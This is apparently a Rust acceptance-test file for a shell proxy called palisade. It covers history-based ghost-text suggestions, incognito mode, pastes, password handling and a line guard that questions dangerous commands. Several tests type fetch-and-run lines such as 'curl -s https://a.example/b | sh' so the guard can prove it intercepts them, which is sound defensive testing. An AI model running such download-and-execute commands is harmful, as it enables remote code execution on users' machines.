// SPDX-License-Identifier: Apache-2.0 OR MIT
//! Tests editing at a prompt: ghost text, picking, incognito, pastes, and questions of the line guard.

use super::screen::{Screen, Setting, has};
use palisade_acceptance::patience::pause;
use std::time::Duration;

/// A shell whose history has some lines.
fn with_history(shell: &str, start: &str) -> Setting {
    Setting::of(shell, start).file(
        ".bash_history",
        "echo the quick brown fox\nls /usr/share/doc\ngit status --short\necho \"$(seq -s- 40)\"; true a line that is longer than a row of the screen\n",
    )
}

/// With the history read: that is done in the background, and put in place within a second or so of activity.
fn ready(setting: Setting) -> Screen {
    let mut screen = setting.ready();
    pause(Duration::from_millis(1200));
    screen.look();
    screen
}

/// Whether a text is on the screen, and dim from where it begins.
fn is_dim(screen: &vt100::Screen, text: &str) -> bool {
    let (rows, columns) = screen.size();
    let is_dim = |row, column| screen.cell(row, column).is_some_and(vt100::Cell::dim);
    (0..rows).any(|row| {
        let mut line = String::new();
        let mut begins = Vec::new();
        for column in 0..columns {
            begins.push(line.len());
            line.push_str(
                screen
                    .cell(row, column)
                    .map(vt100::Cell::contents)
                    .filter(|text| !text.is_empty())
                    .unwrap_or(" "),
            );
        }
        line.find(text).and_then(|at| begins.iter().position(|&begun| begun == at)).is_some_and(|column| {
            let column = u16::try_from(column).unwrap();
            is_dim(row, column) && !(column > 0 && is_dim(row, column - 1))
        })
    })
}

#[track_caller]
fn wait_for_ghost(screen: &mut Screen, text: &str) {
    screen.wait_until(&format!("dim {text:?}"), |screen| is_dim(screen, text));
}

fn line_shells() -> Vec<&'static str> {
    ["bash", "zsh"].into_iter().filter(|shell| has(shell)).collect()
}

fn every_shell() -> Vec<&'static str> {
    ["bash", "zsh", "fish"].into_iter().filter(|shell| has(shell)).collect()
}

#[test]
fn ghost_text_is_shown_and_taken() {
    for shell in line_shells() {
        let mut screen = ready(with_history(shell, ""));
        screen.slowly("echo t");
        wait_for_ghost(&mut screen, "he quick brown fox");
        screen.keys("\x1b[C");
        screen.wait_for_last("$ echo the quick brown fox");
        screen.wait_until("it isn't dim any more", |screen| !is_dim(screen, "he quick"));
        screen.keys("\r");
        screen.wait_for_line("the quick brown fox");
    }
}

#[test]
fn it_is_taken_by_words_and_by_parts_of_paths() {
    for shell in line_shells() {
        let mut screen = ready(with_history(shell, ""));
        screen.slowly("echo");
        screen.keys("\x1b[D\x05 t\x7f\x7f\x7f");
        screen.slowly("o t");
        wait_for_ghost(&mut screen, "he quick brown fox");
        screen.keys("\x1b[1;5C");
        wait_for_ghost(&mut screen, " quick brown fox");
        screen.keys("\x1b[1;5C");
        wait_for_ghost(&mut screen, " brown fox");
        screen.keys("\x15");
        screen.slowly("ls ");
        wait_for_ghost(&mut screen, "/usr/share/doc");
        screen.keys("\x1b[1;3C");
        wait_for_ghost(&mut screen, "share/doc");
        screen.keys("\x1b[1;3C");
        wait_for_ghost(&mut screen, "doc");
        screen.wait_for_line("$ ls /usr/share/doc");
        screen.keys("\r");
        screen.wait_until("a line without ghost", |screen| !is_dim(screen, "doc"));
    }
}

#[test]
fn it_stands_behind_a_fancy_prompt() {
    for (shell, start) in [
        ("bash", r"PS1='\[\e[1;35m\]┌─(日本)─[\w]\[\e[0m\]\n\[\e[32m\]└─▶ \[\e[0m\]$ '"),
        (
            "zsh",
            "setopt promptsubst; PS1=$'%B%F{magenta}┌─(日本)─[%~]%f%b\\n%F{green}└─▶ %f$ '; RPROMPT='%F{yellow}[right]%f'",
        ),
    ] {
        if !has(shell) {
            continue;
        }
        let mut screen = with_history(shell, start).start();
        screen.wait_for("└─▶ $");
        pause(Duration::from_millis(1200));
        screen.slowly("git");
        screen.wait_until("the ghost right behind", |screen| {
            screen.contents().contains("└─▶ $ git status --short")
        });
        wait_for_ghost(&mut screen, " status --short");
        let text = screen.text();
        assert_eq!(text.matches("status").count(), 1, "{shell}: {text}");
        screen.keys("\x05\r");
        screen.wait_for("┌─(日本)─");
    }
}

#[test]
fn it_wraps_and_goes_away_whole() {
    for shell in line_shells() {
        let mut screen = ready(with_history(shell, "").sized(40, 12));
        // In the last row.
        screen.line("printf '\\n%.0s' 1 2 3 4 5 6 7 8 9 10 11 12");
        screen.wait_until("a prompt in the last row", |screen| {
            screen.cursor_position() == (11, 2) && screen.contents().trim_end().ends_with("\n$")
        });
        screen.slowly("echo \"");
        screen.wait_until("both rows", |screen| screen.contents().contains("that is longer than"));
        let before = screen.text();
        screen.slowly("x");
        screen.wait_until("no ghost", |screen| !screen.contents().contains("longer"));
        screen.wait_for_last("$ echo \"x");
        screen.keys("\x7f");
        screen.wait_until("both rows again", |screen| screen.contents().contains("that is longer than"));
        assert!(before.lines().any(|line| line.starts_with("$ echo \"$(seq")), "{before}");
        screen.keys("\x15");
        screen.wait_for_last("$");
    }
}

#[test]
fn keys_without_ghost_text_are_the_shells() {
    for shell in line_shells() {
        let mut screen = ready(with_history(shell, ""));
        screen.slowly("zzz");
        screen.keys("\x01");
        screen.keys("echo \x1b[C\x1b[C\x05!");
        screen.wait_for_last("$ echo zzz!");
    }
}

#[test]
fn what_was_typed_ahead_is_asked_for() {
    let mut screen = ready(with_history("bash", ""));
    for key in "\r\r\r\recho t".chars() {
        screen.keys(key.to_string());
    }
    screen.wait_until("the ghost behind all of it", |screen| is_dim(screen, "he quick brown fox"));
    screen.wait_for_last("$ echo the quick brown fox");
}

#[test]
fn a_line_is_picked_from_a_list() {
    for shell in line_shells() {
        let mut screen = ready(with_history(shell, ""));
        screen.slowly("echo");
        screen.keys("\x1b[1;3B");
        screen.wait_until("a list", |screen| {
            screen.contents().lines().any(|line| line.starts_with("1 "))
                && screen.contents().contains("the quick")
        });
        let text = screen.text();
        let row = text.lines().find(|line| {
            line.contains("the quick") && line.starts_with(|first: char| first.is_ascii_digit())
        });
        let digit = row.unwrap_or_else(|| panic!("{text}")).chars().next().unwrap();
        screen.keys(digit.to_string());
        screen.wait_for_last("$ echo the quick brown fox");
        screen.keys("\r");
        screen.wait_for_line("the quick brown fox");
    }
}

#[test]
fn what_was_run_is_suggested_next() {
    for shell in line_shells() {
        let mut screen = ready(Setting::of(shell, ""));
        screen.slowly("echo remembered-7");
        screen.keys("\r");
        screen.wait_for_line("remembered-7");
        screen.wait_for_last("$");
        screen.slowly("echo r");
        wait_for_ghost(&mut screen, "emembered-7");
    }
}

#[test]
fn what_fails_and_where_is_kept_in_the_store() {
    for shell in line_shells() {
        let mut screen = ready(Setting::of(shell, ""));
        screen.line("cd /usr/share; echo in $PWD");
        screen.wait_for_line("in /usr/share");
        screen.wait_for_last("$");
        screen.slowly("false kept");
        screen.keys("\r");
        pause(Duration::from_millis(500));
        screen.line("exit 0");
        screen.end();
        let store = rusqlite_text(&screen, "history.sqlite");
        assert!(store.contains("false kept") && store.contains("/usr/share"), "{shell}");
    }
}

/// The bytes of a store, with its log.
fn rusqlite_text(screen: &Screen, name: &str) -> String {
    let directory = screen.path(".local/state/palisade");
    let mut text = String::new();
    for name in [name.to_owned(), format!("{name}-wal")] {
        text += &String::from_utf8_lossy(&std::fs::read(directory.join(name)).unwrap_or_default());
    }
    text
}

#[test]
fn incognito_lines_are_nowhere() {
    for shell in line_shells() {
        let mut screen = ready(Setting::of(shell, ""));
        screen.slowly("echo visible-1");
        screen.keys("\r");
        screen.wait_for_line("visible-1");
        screen.wait_for_last("$");
        screen.keys("\x1bi");
        screen.wait_for("incognito");
        screen.slowly("echo hidden-2");
        screen.keys("\r");
        screen.wait_for_line("hidden-2");
        // The note that explains incognito may still be shown below.
        screen.wait_for_line("$");
        screen.slowly("echo h");
        pause(Duration::from_millis(100));
        assert!(!screen.text().contains("$ echo hidden-2\nhidden-2\n$ echo hidden-2"), "{}", screen.text());
        screen.keys("\x15");
        screen.line("exit");
        screen.end();
        let store = rusqlite_text(&screen, "history.sqlite");
        assert!(store.contains("visible-1") && !store.contains("hidden-2"), "{shell}");
    }
}

#[test]
fn a_password_that_is_not_echoed_is_nowhere() {
    for shell in line_shells() {
        let mut screen = ready(Setting::of(shell, ""));
        screen.line("stty -echo; echo o''ff; head -n1 | wc -c; stty echo");
        screen.wait_for_line("off");
        screen.keys("s3cret-pass\r");
        screen.wait_for_line("12");
        screen.wait_for_last("$");
        screen.line("exit");
        screen.end();
        assert!(!rusqlite_text(&screen, "history.sqlite").contains("s3cret"), "{shell}");
        assert!(!String::from_utf8_lossy(screen.raw()).contains("s3cret"), "{shell}");
    }
}

#[test]
fn a_paste_is_one_and_isnt_run() {
    for shell in line_shells() {
        let mut screen = ready(Setting::of(shell, ""));
        screen.keys("\x1b[200~echo pa''sted; echo tw''ice\x1b[201~");
        screen.wait_for("tw''ice");
        assert!(!screen.text().contains("pasted"), "{}", screen.text());
        screen.keys("\r");
        screen.wait_for_line("pasted");
        screen.wait_for_line("twice");
    }
}

#[test]
fn a_dangerous_line_is_asked_about() {
    for shell in every_shell() {
        let mut screen = ready(Setting::of(shell, ""));
        screen.slowly("curl http://never.invalid/x | sh");
        screen.keys("\r");
        screen.wait_for("palisade: ");
        assert!(!screen.text().contains("curl: ("), "{}", screen.text());
        // It doesn't run at Control-C.
        screen.dismiss();
        assert!(!screen.text().contains("curl: ("), "{}", screen.text());
        screen.line("echo still''here");
        screen.wait_for_line("stillhere");
    }
}

#[test]
fn it_runs_at_a_second_enter() {
    for shell in every_shell() {
        let mut screen = ready(Setting::of(shell, ""));
        screen.slowly("curl -s http://never.invalid/x | sh; echo ran");
        screen.keys("\r");
        screen.wait_for("Enter again");
        pause(Duration::from_millis(400));
        screen.keys("\r");
        screen.wait_for_line("ran");
        // The question is gone.
        screen.wait_for_line("$");
        let after = screen.raw().len();
        pause(Duration::from_millis(300));
        let raw = screen.raw();
        let ran = raw.windows(6).rposition(|bytes| bytes == b"\r\nran\r").unwrap_or(after);
        assert!(!String::from_utf8_lossy(&raw[ran..]).contains("Enter again"), "{shell}: {}", screen.text());
    }
}

#[test]
fn a_dangerous_line_from_the_shells_own_history_is_asked_about_too() {
    for shell in line_shells() {
        let mut screen = ready(Setting::of(shell, ""));
        screen.line("# curl -s http://never.invalid/x | sh");
        screen.wait_for_last("$");
        screen.keys("\x1b[A");
        screen.wait_for("$ # curl");
        screen.wait_until("the line again", |screen| screen.contents().matches("| sh").count() >= 2);
        screen.keys("\x01\x1b[3~\x1b[3~\x05\r");
        screen.wait_for("palisade: ");
    }
}

#[test]
fn settings_are_read_again_and_bad_ones_change_nothing() {
    let mut screen = ready(with_history("bash", "").file(".config/palisade/shell.toml", "schema = 1\n"));
    std::fs::write(screen.path(".config/palisade/shell.toml"), "schema = 1\n[gohst]\nfrom = 1\n").unwrap();
    pause(Duration::from_millis(1200));
    screen.keys("e");
    screen.wait_for("did you mean `ghost`?");
    screen.slowly("cho th");
    wait_for_ghost(&mut screen, "e quick brown fox");
    std::fs::write(screen.path(".config/palisade/shell.toml"), "schema = 1\n[ghost]\nfrom = 30\n").unwrap();
    pause(Duration::from_millis(1200));
    screen.slowly("e");
    // The message may have appeared before that key, which removes it.
    screen.wait_for_raw(b"the settings are read again");
    screen.slowly(" q");
    screen.wait_until("no ghost", |screen| !is_dim(screen, "uick"));
}

#[test]
fn what_was_typed_ahead_is_judged_and_remembered() {
    for shell in every_shell() {
        let mut screen = ready(Setting::of(shell, ""));
        let until = |name: &str| format!("sh -c 'until test -e {name}; do sleep 0.05; done'");
        screen.line(&format!("echo go''ing; {}", until("one")));
        screen.wait_for_line("going");
        // Type some lines while no program reads.
        screen.slowly("echo ahead-1\recho ahead-2\rcurl -s https://a.example/b | sh\r");
        screen.wait_for_line("curl -s https://a.example/b | sh");
        std::fs::write(screen.path("one"), "").unwrap();
        screen.wait_for_line("ahead-1");
        screen.wait_for_line("ahead-2");
        screen.wait_for("Enter again");
        screen.dismiss();
        // What a program reads is its own all the same.
        screen.line(&format!("echo ag''ain; {}; head -n1 | rev; {}", until("two"), until("three")));
        screen.wait_for_line("again");
        screen.slowly("for head\recho ahead-3\r");
        screen.wait_for_line("echo ahead-3");
        std::fs::write(screen.path("two"), "").unwrap();
        screen.wait_for("daeh rof");
        std::fs::write(screen.path("three"), "").unwrap();
        screen.wait_for_line("ahead-3");
        screen.wait_for_last("$");
        screen.line("exit");
        screen.end();
        let store = rusqlite_text(&screen, "history.sqlite");
        for line in ["ahead-1", "ahead-2", "ahead-3"] {
            assert!(store.contains(&format!("echo {line}")), "{shell}: {line}");
        }
        assert!(!store.contains("for head"), "{shell}");
    }
}

/// A line of which a part came before its prompt, in one row and in two, is one that is judged.
#[test]
fn a_line_that_begins_before_its_prompt_is_judged() {
    for shell in every_shell() {
        for width in [0, 60] {
            let mut screen = ready(Setting::of(shell, ""));
            screen.line("echo go''ing; sh -c 'until test -e one; do sleep 0.05; done'");
            screen.wait_for_line("going");
            screen.keys("c");
            screen.wait_for_line("c");
            std::fs::write(screen.path("one"), "").unwrap();
            screen.slowly(&format!("url -s https://a.example/{} | sh", "b".repeat(width)));
            screen.keys("\r");
            screen.wait_for("Enter again");
        }
    }
}

/// Enter may take something from a menu, and leave the line where it is.
#[test]
fn an_enter_that_runs_nothing_is_no_end_of_the_line() {
    for shell in every_shell().into_iter().filter(|shell| *shell != "bash") {
        let menu = if shell == "zsh" {
            "autoload -Uz compinit && compinit -D; zstyle ':completion:*' menu select"
        } else {
            ""
        };
        // On a busy machine a shell may take longer to say what is in its editor than the proxy waits: then the line runs.
        let asked = (0..3).any(|_attempt| {
            let setting = Setting::of(shell, menu).file("dir/first-1", "").file("dir/second-2", "");
            let mut screen = ready(setting);
            screen.slowly("echo dir/");
            screen.keys("\t");
            screen.wait_for("second-2");
            screen.keys("\t");
            screen.wait_for("$ echo dir/first-1");
            screen.keys("\r");
            pause(Duration::from_millis(1000));
            screen.slowly(" && curl -s https://a.example/b | sh");
            screen.keys("\r");
            let has_run = |text: &str| text.lines().any(|line| line.trim() == "dir/first-1");
            screen.wait_until("a question, or what the line prints", |screen| {
                let text = screen.contents();
                text.contains("Enter again") || has_run(&text)
            });
            if has_run(&screen.text()) {
                return false;
            }
            screen.wait_until("one line", |screen| {
                let screen = screen.contents();
                screen.lines().any(|line| line.starts_with("$ echo dir/first-1") && line.contains("&& curl"))
            });
            true
        });
        assert!(asked, "{shell} wasn't asked in three attempts");
    }
}

/// A menu that only stands there takes no Enter: the line is run, and judged before.
#[test]
fn a_menu_hides_no_line() {
    if !has("fish") {
        return;
    }
    let mut screen = ready(Setting::of("fish", "").file("dir/first-1", "").file("dir/second-2", ""));
    screen.slowly("curl -s https://a.example/b | sh -s dir/");
    screen.keys("\t");
    screen.wait_for("second-2");
    screen.keys("\r");
    screen.wait_for("Enter again");
}

/// While the shell asks the user a question, `palisade shell` doesn't use the answer for its own purposes.
#[test]
fn a_question_of_the_shells_is_the_users_to_answer() {
    if !has("zsh") {
        return;
    }
    let mut setting = Setting::of("zsh", "autoload -Uz compinit && compinit -D; LISTMAX=3");
    for number in 0..9 {
        setting = setting.file(&format!("dir/file-{number}"), "");
    }
    let mut screen = ready(setting);
    screen.slowly("echo dir/");
    screen.keys("\t");
    screen.wait_until("completion", |screen| screen.contents().contains("$ echo dir/file-"));
    screen.keys("\t");
    screen.wait_for("do you wish to see all 9 possibilities");
    // No user reads and answers faster.
    pause(Duration::from_millis(400));
    screen.keys("\r");
    screen.wait_until("line alone", |screen| screen.contents().trim_end().ends_with("$ echo dir/file-"));
    screen.slowly("7");
    screen.keys("\r");
    screen.wait_for_line("dir/file-7");
}

#[test]
fn what_was_typed_ahead_is_typed_as_it_was() {
    for shell in every_shell() {
        let mut screen = ready(Setting::of(shell, ""));
        screen.line("echo go''ing; stty -echo; sleep 1; stty echo");
        screen.wait_for_line("going");
        screen.keys("printf '%s\\n' \\\\'a b '\u{20ac}c; true \x01\r");
        screen.wait_for_line("\\a b \u{20ac}c");
    }
}

#[test]
fn what_was_confirmed_and_what_is_suggested_outlast_other_settings() {
    let rule = "[[guard.rules]]\nname = \"mine\"\naction = \"confirm-once\"\nprefix = \"echo one\"\n";
    let settings = |rows: u8| format!("schema = 1\n[ghost]\nrows = {rows}\n{rule}");
    let mut screen = ready(with_history("bash", "").file(".config/palisade/shell.toml", &settings(3)));
    screen.line("echo one-1 two''words");
    screen.wait_for("Enter again");
    pause(Duration::from_millis(400));
    screen.keys("\r");
    screen.wait_for_line("one-1 twowords");
    std::fs::write(screen.path(".config/palisade/shell.toml"), settings(2)).unwrap();
    screen.line("sleep 1.2");
    screen.wait_for("the settings are read again");
    // Not asked again, and suggested at once.
    screen.slowly("echo one-1");
    wait_for_ghost(&mut screen, " two''words");
    screen.keys("\x15");
    screen.line("echo one-2 th''ree");
    screen.wait_for_line("one-2 three");
}
